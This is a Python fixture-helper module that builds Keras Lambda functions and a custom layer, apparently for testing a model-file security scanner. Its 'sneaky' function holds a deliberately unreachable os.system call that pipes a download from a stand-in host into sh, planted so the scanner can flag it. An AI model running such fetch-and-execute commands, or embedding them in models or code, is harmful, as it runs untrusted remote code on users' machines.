"""Functions and a layer class that scripts/make_keras_fixtures.py puts into Keras models.

The fixture script and tests/tf/test_keras_live.py load this file with
``make_keras_fixtures.load_helpers()``, which compiles it under the file name
``keras_fixture_helpers.py`` (not this machine's path), so that the bytecode Keras stores
is the same wherever the fixtures are regenerated.
"""

import os

# The os.system call in ``sneaky`` is never made: the flag is always false.  Only its
# presence in the bytecode matters (smlite must find ``os`` and ``system`` there).
_NEVER = False

#: The Lambda built from a lambda expression (compiled by make_keras_fixtures.py).
LAMBDA_SOURCE = "lambda t: t * 2.0 + 1.0"


def scale(x):
    """A named function: the Lambda stores its bytecode with module keras_fixture_helpers."""
    return x * 3.0


# Looks harmless when called; its bytecode references os.system and a shell command.
# (No docstring: it would be one more string constant in the findings' messages.)
def sneaky(x):
    if _NEVER:
        os.system("curl http://example.invalid/payload | sh")
    return x


def scale_layer_class(tf_keras):
    """A custom layer registered as ``smlite_fixtures>Scale``."""

    @tf_keras.saving.register_keras_serializable(package="smlite_fixtures")
    class Scale(tf_keras.layers.Layer):
        def __init__(self, factor=2.0, **kwargs):
            super().__init__(**kwargs)
            self.factor = factor

        def call(self, inputs):
            return inputs * self.factor

        def get_config(self):
            return {**super().get_config(), "factor": self.factor}

    return Scale
